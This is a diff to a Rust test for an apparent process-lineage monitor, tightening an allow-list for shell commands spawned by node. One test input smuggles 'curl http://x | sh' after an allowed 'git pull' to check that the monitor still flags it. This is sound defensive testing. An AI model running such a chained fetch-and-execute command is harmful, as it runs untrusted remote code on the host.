@@ -275,10 +275,24 @@ mod tests {
     #[test]
     fn allow_list_silences_a_known_good_pattern() {
         let l = lineage(
-            "[[lineage.allow]]\nparent = \"node\"\nchild = \"sh\"\nargv = \"^sh -c git \"\n",
+            "[[lineage.allow]]\nparent = \"node\"\nchild = \"sh\"\nargv = \"^sh -c git (pull|fetch)\"\n",
         );
         let sh = culprit(20, "sh", &[(10, "node")]);
         let node = up(&[(10, "node", true, false)]);
+        // The pattern covers the whole argument string: nothing may ride along.
+        assert!(
+            l.on_exec(
+                &sh,
+                &argv("sh -c git pull; curl http://x | sh"),
+                &node,
+                shell
+            )
+            .is_some()
+        );
+        assert!(
+            l.on_exec(&sh, &argv("sh -c git fetch --all"), &node, shell)
+                .is_some()
+        );
         assert!(
             l.on_exec(&sh, &argv("sh -c git pull"), &node, shell)
                 .is_none()
